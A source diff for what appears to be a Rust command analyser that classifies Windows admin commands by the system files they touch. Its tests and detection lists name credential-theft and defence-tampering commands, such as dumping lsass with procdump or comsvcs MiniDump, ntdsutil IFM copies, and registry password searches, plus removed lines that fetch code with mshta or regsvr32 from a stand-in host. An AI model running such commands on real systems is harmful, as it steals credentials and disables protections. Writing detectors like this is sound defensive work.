@@ -1,21 +1,25 @@
 //! Programs of Windows that administer the machine, whatever shell starts them. What they change is a write to the file in
 //! which the system keeps it. Their switches begin with a slash, so that all of their words are operands here.
 
+mod programs;
+
+pub(super) use programs::TOOLS as PROGRAMS;
+
 use super::call::{Call, Tool, strict};
 use super::words;
-use crate::reading::ActKind;
+use crate::reading::Language;
 use crate::script::Word;
 
 /// Where the registry's hives lie.
-const HIVES: &str = r"C:\Windows\System32\config";
+pub(crate) const HIVES: &str = r"C:\Windows\System32\config";
 /// The accounts and what proves them.
-const ACCOUNTS: &str = r"C:\Windows\System32\config\SAM";
+pub(crate) const ACCOUNTS: &str = r"C:\Windows\System32\config\SAM";
 /// The copies to which a disk can be set back.
-const COPIES: &str = r"C:\Windows\System32\VSS";
-const JOBS: &str = r"C:\Windows\System32\Tasks";
-const LOGS: &str = r"C:\Windows\System32\winevt\Logs";
-const BOOT: &str = r"C:\Windows\Boot\BCD";
-const DISK: &str = r"\\.\PhysicalDrive0";
+pub(crate) const COPIES: &str = r"C:\Windows\System32\VSS";
+pub(crate) const JOBS: &str = r"C:\Windows\System32\Tasks";
+pub(crate) const LOGS: &str = r"C:\Windows\System32\winevt\Logs";
+pub(crate) const BOOT: &str = r"C:\Windows\Boot\BCD";
+pub(crate) const DISK: &str = r"\\.\PhysicalDrive0";
 
 pub(super) const TOOLS: &[Tool] = &[
     strict("vssadmin", "", |call| {
@@ -24,12 +28,24 @@ pub(super) const TOOLS: &[Tool] = &[
         }
     }),
     strict("wmic", "", |call| {
+        if let Some(host) = word_with(call, "/node:") {
+            let host = words::map(&host, |text| {
+                text.split_once(':').map(|(_, host)| host.to_owned())
+            });
+            call.network(host, true);
+        }
+        if says(call, &["create"]) && says(call, &["process"]) {
+            run_behind(call, "create", "wmic process call create");
+        }
         let copies = says(call, &["shadowcopy"]) && says(call, &["delete"]);
         if copies {
             call.write_named(COPIES);
         }
+        if says(call, &["useraccount"]) && says(call, &["delete", "set", "call", "create"]) {
+            call.write_named(ACCOUNTS);
+        }
         if let Some(sheet) = word_with(call, "/format:http") {
-            remote(call, &sheet);
+            programs::remote(call, &sheet);
         }
     }),
     strict("wbadmin", "", |call| {
@@ -82,6 +98,13 @@ pub(super) const TOOLS: &[Tool] = &[
     }),
     strict("reg", "", registry),
     strict("netsh", "", |call| {
+        if says(call, &["key=clear"]) {
+            call.read_named(ACCOUNTS);
+        }
+        let links = says(call, &["interface", "int"]) && !says(call, &["portproxy"]);
+        if links && says(call, &["set", "add", "delete", "reset"]) {
+            call.write_named(HIVES);
+        }
         let filter = says(call, &["advfirewall", "firewall", "portproxy", "winhttp"]);
         if filter && says(call, &["set", "add", "delete", "reset", "import"]) {
             call.write_named(HIVES);
@@ -96,6 +119,15 @@ pub(super) const TOOLS: &[Tool] = &[
         }
         if says(call, &["stop"]) && names_guard(call) {
             call.write_named(HIVES);
+        }
+        let share = call
+            .args
+            .iter()
+            .find(|word| words::starts(word, r"\\"))
+            .cloned();
+        if share.is_some() && says_first(call, &["use"]) && !says(call, &["/delete", "/d"]) {
+            let host = share.as_ref().and_then(host_of_share);
+            call.network(host, true);
         }
     }),
     strict("sc", "", |call| {
@@ -124,6 +156,85 @@ pub(super) const TOOLS: &[Tool] = &[
             ],
         ) {
             call.write_named(LOGS);
+        }
+    }),
+    strict("auditpol", "", |call| {
+        if says_first(call, &["/set", "/clear", "/remove", "/restore"]) {
+            call.write_named(LOGS);
+        }
+    }),
+    strict("reagentc", "", |call| {
+        if says(call, &["/disable", "/setreimage"]) {
+            call.write_named(BOOT);
+        }
+    }),
+    strict("pnputil", "", |call| {
+        let changes = [
+            "/add-driver",
+            "/delete-driver",
+            "/disable-device",
+            "/remove-device",
+            "-a",
+            "-d",
+            "-i",
+        ];
+        if says(call, &changes) {
+            call.write_named(r"C:\Windows\System32\DriverStore");
+        }
+    }),
+    strict("dism", "", |call| {
+        let is_change = |text: String| {
+            [
+                "/enable-",
+                "/disable-",
+                "/add-",
+                "/remove-",
+                "/apply-",
+                "/set-",
+            ]
+            .iter()
+            .any(|start| text.starts_with(start))
+        };
+        if says(call, &["/online"]) && call.args.iter().filter_map(lower).any(is_change) {
+            call.write_named(r"C:\Windows\WinSxS");
+        }
+    }),
+    strict("setx", "", |call| {
+        if says(call, &["/m"]) {
+            call.write_named(HIVES);
+        }
+    }),
+    strict("w32tm", "", |call| {
+        if says(call, &["/config", "/register", "/unregister"]) {
+            call.write_named(HIVES);
+        }
+    }),
+    strict("mountvol", "", |call| {
+        if says(call, &["/d", "/p"]) {
+            call.write_named(DISK);
+        }
+    }),
+    strict("taskkill", "", |call| {
+        let name = word_behind(call, "/im")
+            .as_ref()
+            .and_then(lower)
+            .unwrap_or_default();
+        let filter = word_behind(call, "/fi")
+            .as_ref()
+            .and_then(lower)
+            .unwrap_or_default();
+        if name == "*" || is_vital(&name) || filter.starts_with("pid g") {
+            call.write_named(HIVES);
+        }
+    }),
+    strict("ntdsutil", "", |call| {
+        if !call.args.is_empty() {
+            call.read_named(ACCOUNTS);
+        }
+    }),
+    strict("procdump procdump64 procdump64a nanodump", "", |call| {
+        if says(call, &["lsass", "lsass.exe"]) {
+            call.read_named(ACCOUNTS);
         }
     }),
     strict("takeown", "", |call| {
@@ -159,31 +270,6 @@ pub(super) const TOOLS: &[Tool] = &[
         }
     }),
     strict(
-        "mshta regsvr32 rundll32 msiexec installutil cscript wscript",
-        "",
-        |call| {
-            let from_network = ["http://", "https://", "javascript:", "vbscript:"]
-                .iter()
-                .find_map(|start| word_with(call, start));
-            if let Some(word) = from_network {
-                remote(call, &word);
-            }
-        },
-    ),
-    strict("bitsadmin", "", |call| {
-        let url = ["http://", "https://"]
-            .iter()
-            .find_map(|start| word_with(call, start));
-        if let Some(url) = url {
-            let uploads = says(call, &["/upload"]);
-            call.network(Some(url), uploads);
-            let file = call.line.operands.last().cloned();
-            if let Some(file) = file.filter(|_| !uploads) {
-                call.write(file);
-            }
-        }
-    }),
-    strict(
         "mimikatz lazagne pypykatz secretsdump secretsdump.py impacket-secretsdump",
         "",
         |call| call.read_named(ACCOUNTS),
@@ -215,31 +301,63 @@ fn registry(call: &mut Call<'_>) {
     let holds_accounts = ["sam", "security", "system"]
         .iter()
         .any(|hive| key.split('\\').nth(1) == Some(hive));
-    if machine && holds_accounts && says_first(call, &["save", "export", "query"]) {
+    let looks_for_passwords = says_first(call, &["query"])
+        && (word_with(call, "password").is_some() || key.contains(r"\simontatham\putty"));
+    if looks_for_passwords
+        || machine && holds_accounts && says_first(call, &["save", "export", "query"])
+    {
         call.read_named(ACCOUNTS);
     }
 }
 
-/// The services that keep watch.
+/// `\\host\share`.
+fn host_of_share(share: &Word) -> Option<Word> {
+    words::map(share, |text| {
+        let host = text.strip_prefix(r"\\")?.split('\\').next()?;
+        (!host.is_empty()).then(|| host.to_owned())
+    })
+}
+
+/// What stands behind a word is a command line of its own.
+fn run_behind(call: &mut Call<'_>, name: &str, layer: &str) {
+    if let Some(line) = word_behind(call, name) {
+        call.code(Language::Cmd, line, Vec::new(), layer);
+    }
+}
+
+/// Whether this, in small letters, is a service that keeps watch.
+pub(crate) fn is_guard(service: &str) -> bool {
+    const GUARDS: [&str; 13] = [
+        "windefend",
+        "wdnissvc",
+        "sense",
+        "mpssvc",
+        "wscsvc",
+        "eventlog",
+        "vss",
+        "swprv",
+        "wuauserv",
+        "securityhealthservice",
+        "sysmon",
+        "sysmon64",
+        "bfe",
+    ];
+    GUARDS.contains(&service)
+}
+
+/// Whether this, in small letters, is a process that Windows does not run without.
+pub(crate) fn is_vital(process: &str) -> bool {
+    const VITAL: [&str; 7] = [
+        "csrss", "wininit", "winlogon", "smss", "services", "lsass", "svchost",
+    ];
+    VITAL.contains(&process.strip_suffix(".exe").unwrap_or(process))
+}
+
 fn names_guard(call: &Call<'_>) -> bool {
-    says(
-        call,
-        &[
-            "windefend",
-            "wdnissvc",
-            "sense",
-            "mpssvc",
-            "wscsvc",
-            "eventlog",
-            "vss",
-            "swprv",
-            "wuauserv",
-            "securityhealthservice",
-            "sysmon",
-            "sysmon64",
-            "bfe",
-        ],
-    )
+    call.args
+        .iter()
+        .filter_map(lower)
+        .any(|word| is_guard(&word))
 }
 
 /// `net user NAME PASSWORD`.
@@ -279,17 +397,6 @@ fn word_behind(call: &Call<'_>, name: &str) -> Option<Word> {
         .iter()
         .position(|word| words::text(word).is_some_and(|text| text.eq_ignore_ascii_case(name)))?;
     call.args.get(at + 1).cloned()
-}
-
-/// Code runs that a word of the line names.
-fn remote(call: &mut Call<'_>, word: &Word) {
-    let url = words::map(word, |text| {
-        text.find("http")
-            .and_then(|at| text.get(at..).map(str::to_owned))
-    });
-    call.act(ActKind::RemoteCode {
-        url: url.map(Into::into),
-    });
 }
 
 #[cfg(test)]
@@ -371,12 +478,47 @@ mod tests {
     }
 
     #[test]
-    fn code_from_the_network() {
-        let code = "remote code https://x.example/a";
-        check("mshta https://x.example/a", code);
-        check("regsvr32 /s /n /u /i:https://x.example/a scrobj.dll", code);
-        check("msiexec /q /i https://x.example/a", code);
-        check("msiexec /i setup.msi", "");
-        check("wmic os get /format:https://x.example/a", code);
+    fn parts_of_the_system() {
+        let hives = r"write C:\Windows\System32\config";
+        check("setx /M PATH x", hives);
+        check("setx PATH x", "");
+        check("w32tm /config /update", hives);
+        check("w32tm /query /status", "");
+        check("taskkill /f /im lsass.exe", hives);
+        check("taskkill /f /fi 'PID gt 0'", hives);
+        check("taskkill /f /im node.exe", "");
+        check("netsh interface set interface Ethernet disable", hives);
+        check("netsh interface show interface", "");
+        check("mountvol C: /D", r"write \\.\PhysicalDrive0");
+        check("mountvol", "");
+        check("reagentc /disable", r"write C:\Windows\Boot\BCD");
+        check("reagentc /info", "");
+        check(
+            "auditpol /clear /y",
+            r"write C:\Windows\System32\winevt\Logs",
+        );
+        check("auditpol /get /category:*", "");
+        check(
+            "pnputil /add-driver x.inf",
+            r"write C:\Windows\System32\DriverStore",
+        );
+        check("pnputil /enum-drivers", "");
+        check(
+            "dism /online /disable-feature /featurename:x",
+            r"write C:\Windows\WinSxS",
+        );
+        check("dism /online /get-features", "");
+    }
+
+    #[test]
+    fn passwords() {
+        let accounts = r"read C:\Windows\System32\config\SAM";
+        check("netsh wlan show profile name=x key=clear", accounts);
+        check("reg query HKLM /f password /t REG_SZ /s", accounts);
+        check("ntdsutil 'ac i ntds' ifm q q", accounts);
+        check("procdump -ma lsass.exe x.dmp", accounts);
+        check("procdump -ma app.exe x.dmp", "");
+        check("rundll32 comsvcs.dll, MiniDump 6 x.dmp full", accounts);
+        check("rundll32 printui.dll,PrintUIEntry", "");
     }
 }
